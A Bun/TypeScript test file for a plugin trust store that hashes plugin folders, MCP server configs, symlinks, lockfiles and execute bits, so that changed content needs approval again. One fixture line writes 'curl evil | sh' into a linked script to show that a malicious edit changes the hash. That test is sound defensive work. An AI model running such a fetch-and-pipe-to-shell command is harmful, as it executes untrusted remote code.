import { describe, expect, spyOn, test } from "bun:test"
import * as fs from "node:fs"
import { chmodSync, mkdtempSync, mkdirSync, readFileSync, rmSync, statSync, symlinkSync, writeFileSync } from "node:fs"
import { tmpdir } from "node:os"
import { join } from "node:path"
import { Effect } from "effect"
import { hashContent, MAX_HASHED_FILES, stampContent } from "../../src/trust/content-hash.ts"
import { makeTrust, trustFilePath } from "../../src/trust/trust.ts"

const setup = () => {
  const base = mkdtempSync(join(tmpdir(), "anvil-trust-"))
  const root = join(base, "repo")
  const config = join(base, "config")
  mkdirSync(join(root, ".anvil", "plugins", "tool", "lib"), { recursive: true })
  writeFileSync(join(root, ".anvil", "plugins", "tool", "index.ts"), "export default 1\n")
  writeFileSync(join(root, ".anvil", "plugins", "tool", "lib", "a.ts"), "export const a = 1\n")
  return { base, root, config, env: { XDG_CONFIG_HOME: config, HOME: join(base, "home") }, cleanup: () => rmSync(base, { recursive: true, force: true }) }
}
const run = <A, E>(e: Effect.Effect<A, E>) => Effect.runPromise(e)

describe("trust", () => {
  test("untrusted → trusted → changed when any file of a folder changes; stored in XDG_CONFIG_HOME, not the repo", async () => {
    const t = setup()
    try {
      const trust = makeTrust({ root: t.root, env: t.env })
      const folder = join(t.root, ".anvil", "plugins", "tool")
      const subject = { kind: "plugin", name: "tool", content: { path: folder } }
      expect((await run(trust.check(subject))).status).toBe("untrusted")
      await run(trust.trust(subject))
      expect(trust.file).toBe(join(t.config, "anvil", "trust.json"))
      expect(statSync(trust.file!).mode & 0o777).toBe(0o600)
      expect((await run(trust.check(subject))).status).toBe("trusted")
      // Another instance (another process) sees the decision.
      expect((await run(makeTrust({ root: t.root, env: t.env }).check(subject))).status).toBe("trusted")
      writeFileSync(join(folder, "lib", "a.ts"), "export const a = 2\n")
      expect((await run(trust.check(subject))).status).toBe("changed")
      const entries = await run(trust.entries("plugin"))
      expect(entries.map((e) => e.name)).toEqual(["tool"])
      expect(await run(trust.untrust("plugin", "tool"))).toBe(true)
      expect(await run(trust.untrust("plugin", "tool"))).toBe(false)
      expect((await run(trust.check(subject))).status).toBe("untrusted")
    } finally {
      t.cleanup()
    }
  })

  test("text subjects, one-run assumptions, kinds kept apart, per project", async () => {
    const t = setup()
    try {
      const server = { kind: "mcp", name: "gh", content: { text: JSON.stringify({ command: "gh-mcp" }) } }
      const trust = makeTrust({ root: t.root, env: t.env, assume: ["plugin"] })
      expect((await run(trust.check(server))).status).toBe("untrusted")
      const plugin = { kind: "plugin", name: "gh", content: { text: "x" } }
      expect(await run(trust.check(plugin))).toMatchObject({ status: "trusted", assumed: true })
      await run(trust.trust(server))
      expect((await run(trust.check({ ...server, content: { text: JSON.stringify({ command: "evil" }) } }))).status).toBe("changed")
      const other = join(t.base, "other")
      mkdirSync(other)
      expect((await run(makeTrust({ root: other, env: t.env }).check(server))).status).toBe("untrusted")
    } finally {
      t.cleanup()
    }
  })

  test("HOME/.config when XDG_CONFIG_HOME is unset; damaged store and unreadable content are TrustErrors", async () => {
    const t = setup()
    try {
      expect(trustFilePath({ HOME: "/h" })).toBe("/h/.config/anvil/trust.json")
      expect(trustFilePath({})).toBeUndefined()
      const trust = makeTrust({ root: t.root, env: t.env })
      const missing = { kind: "plugin", name: "gone", content: { path: join(t.root, "nope") } }
      expect((await run(Effect.flip(trust.check(missing)))).reason).toBe("unreadable_content")
      mkdirSync(join(t.config, "anvil"), { recursive: true })
      writeFileSync(join(t.config, "anvil", "trust.json"), "{ not json")
      const error = await run(Effect.flip(trust.check({ kind: "plugin", name: "x", content: { text: "" } })))
      expect(error.reason).toBe("store")
      expect(error.message).toContain("trust.json")
      const none = makeTrust({ root: t.root, env: {} })
      expect((await run(Effect.flip(none.trust({ kind: "plugin", name: "x", content: { text: "" } })))).reason).toBe("no_config_folder")
    } finally {
      t.cleanup()
    }
  })

  test("a link's hash and stamp cover what it leads to: a file or folder elsewhere that changes asks again; a link back up ends", () => {
    const t = setup()
    try {
      const dir = join(t.base, "plugin")
      const elsewhere = join(t.base, "repo-file.json")
      const shared = join(t.base, "shared")
      mkdirSync(join(dir, "hooks"), { recursive: true })
      mkdirSync(shared)
      writeFileSync(elsewhere, '{"hooks": {}}')
      writeFileSync(join(shared, "run.sh"), "exit 0\n")
      symlinkSync(elsewhere, join(dir, "hooks", "hooks.json"))
      symlinkSync(shared, join(dir, "scripts"))
      symlinkSync(dir, join(dir, "loop"))
      const before = { hash: hashContent({ path: dir }), stamp: stampContent({ path: dir }) }
      writeFileSync(elsewhere, '{"hooks": {"PreToolUse": []}}')
      const afterFile = { hash: hashContent({ path: dir }), stamp: stampContent({ path: dir }) }
      expect(afterFile.hash).not.toBe(before.hash)
      expect(afterFile.stamp).not.toBe(before.stamp)
      writeFileSync(join(shared, "run.sh"), "curl evil | sh\n")
      expect(hashContent({ path: dir })).not.toBe(afterFile.hash)
      expect(stampContent({ path: dir })).not.toBe(afterFile.stamp)
    } finally {
      t.cleanup()
    }
  })

  test("a link to a folder too large to hash is an unreadable_content error that says why (not '[object Object]')", async () => {
    const t = setup()
    try {
      const big = join(t.base, "big")
      mkdirSync(big)
      for (let i = 0; i <= MAX_HASHED_FILES; i++) writeFileSync(join(big, `f${i}`), "")
      const folder = join(t.root, ".anvil", "plugins", "tool")
      symlinkSync(big, join(folder, "data"))
      const error = await run(Effect.flip(makeTrust({ root: t.root, env: t.env }).check({ kind: "plugin", name: "tool", content: { path: folder } })))
      expect(error.reason).toBe("unreadable_content")
      expect(error.message).toContain(`more than ${MAX_HASHED_FILES} files under`)
      expect(error.message).toContain("(installed packages in node_modules count): remove what the plugin does not need")
    } finally {
      t.cleanup()
    }
  }, 60_000)

  test("a folder's hash covers names and bytes, links by their target text, installed packages, lockfiles at any depth and the execute bits; it skips .git", () => {
    const t = setup()
    try {
      const dir = join(t.base, "h")
      mkdirSync(join(dir, ".git"), { recursive: true })
      writeFileSync(join(dir, "a"), "1")
      const h1 = hashContent({ path: dir })
      writeFileSync(join(dir, ".git", "HEAD"), "x")
      expect(hashContent({ path: dir })).toBe(h1)
      // Each of these may make new code run: a bundle is made from node_modules, a hook's script requires from it,
      // a hook that installs packages installs what a lockfile names, a hook runs a script once it may be executed.
      const seen = new Set([h1])
      const changes: Array<() => void> = [
        () => mkdirSync(join(dir, "node_modules", "dep"), { recursive: true }),
        () => writeFileSync(join(dir, "node_modules", "dep", "index.js"), "module.exports = 1"),
        () => writeFileSync(join(dir, "node_modules", "dep", "index.js"), "module.exports = 2"),
        () => writeFileSync(join(dir, "package-lock.json"), "{}"),
        () => writeFileSync(join(dir, "package-lock.json"), '{"lockfileVersion": 3}'),
        () => mkdirSync(join(dir, "scripts", "tool"), { recursive: true }),
        () => writeFileSync(join(dir, "scripts", "tool", "bun.lock"), "{}"),
        () => writeFileSync(join(dir, "scripts", "run.sh"), "echo hi"),
        () => chmodSync(join(dir, "scripts", "run.sh"), 0o755),
        () => chmodSync(join(dir, "node_modules", "dep", "index.js"), 0o700),
        () => symlinkSync(join(dir, "a"), join(dir, "link-to-a")),
        () => chmodSync(join(dir, "a"), 0o744),
      ]
      for (const change of changes) {
        const stamp = stampContent({ path: dir })
        change()
        const hash = hashContent({ path: dir })
        // A new folder holds no file yet: nothing that could run, so the same hash.
        if (change === changes[0] || change === changes[5]) expect(seen.has(hash)).toBe(true)
        else expect(seen.has(hash)).toBe(false)
        seen.add(hash)
        if (change !== changes[0] && change !== changes[5]) expect(stampContent({ path: dir })).not.toBe(stamp)
      }
      // The mode beyond the execute bits does not count (a file made read-only runs nothing new).
      const before = hashContent({ path: dir })
      chmodSync(join(dir, "scripts", "run.sh"), 0o555)
      expect(hashContent({ path: dir })).toBe(before)
      // Without execute bits the framing is the one trust was always given to (no hash changes for such folders).
      rmSync(dir, { recursive: true })
      mkdirSync(dir)
      writeFileSync(join(dir, "a"), "1")
      expect(hashContent({ path: dir })).toBe(h1)
      symlinkSync("/etc/hostname", join(dir, "l"))
      const h2 = hashContent({ path: dir })
      expect(h2).not.toBe(h1)
      rmSync(join(dir, "l"))
      writeFileSync(join(dir, "b"), "")
      expect(hashContent({ path: dir })).not.toBe(h1)
      expect(readFileSync(join(dir, "a"), "utf8")).toBe("1")
    } finally {
      t.cleanup()
    }
  })

  test("checking a subject and then trusting it reads each of its files once, not twice", async () => {
    const t = setup()
    try {
      const folder = join(t.root, ".anvil", "plugins", "tool")
      const subject = { kind: "plugin", name: "tool", content: { path: folder } }
      const trust = makeTrust({ root: t.root, env: t.env })
      const opened = spyOn(fs, "openSync")
      try {
        expect((await run(trust.check(subject))).status).toBe("untrusted")
        await run(trust.trust(subject))
        const reads = opened.mock.calls.map((c) => String(c[0])).filter((p) => p.startsWith(folder))
        expect(reads.sort()).toEqual([join(folder, "index.ts"), join(folder, "lib", "a.ts")])
      } finally {
        opened.mockRestore()
      }
      expect((await run(makeTrust({ root: t.root, env: t.env }).check(subject))).status).toBe("trusted")
      // A change after the check is hashed anew: what is trusted is what is there.
      writeFileSync(join(folder, "lib", "a.ts"), "export const a = 3\n")
      const changed = await run(trust.trust(subject))
      expect(changed.hash).toBe(hashContent({ path: folder }))
      expect((await run(makeTrust({ root: t.root, env: t.env }).check(subject))).status).toBe("trusted")
    } finally {
      t.cleanup()
    }
  })
})
